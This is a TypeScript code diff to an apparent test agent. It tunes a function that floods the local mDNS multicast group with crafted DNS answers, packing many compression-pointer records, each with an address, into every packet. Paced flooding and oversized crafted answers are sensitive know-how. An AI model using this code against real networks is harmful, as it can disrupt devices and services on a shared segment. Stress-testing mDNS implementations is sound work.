@@ -140,7 +140,10 @@ function flood(id: number, { from, count, bytes }: Extract<AgentWish, { do: 'flo
     socket.setMulticastInterface(from);
     let left = count;
     const next = () => {
-      if (left-- > 0) return socket.send(datagram, 5353, '224.0.0.251', next);
+      // Faster, most of them would be lost before anybody reads them.
+      if (left-- > 0) {
+        return socket.send(datagram, 5353, '224.0.0.251', () => setTimeout(next, 10));
+      }
       socket.close();
       tell(id, { connected: true });
     };
@@ -151,7 +154,7 @@ function flood(id: number, { from, count, bytes }: Extract<AgentWish, { do: 'flo
 /** An answer of many records, the name of each of them a reference to one of a hundred parts. */
 function compressedNames(bytes: number): Buffer {
   const name = Buffer.concat([Buffer.from('\x01a'.repeat(100)), Buffer.from([0])]);
-  const data = Buffer.from([0, 1, 0, 1, 0, 0, 0, 1, 0, 0]);
+  const data = Buffer.from([0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 10, 77, 0, 2]);
   const record = Buffer.concat([Buffer.from([0xc0, 12]), data]);
   const count = Math.floor((bytes - 12 - name.length - data.length) / record.length);
   const head = Buffer.alloc(12);
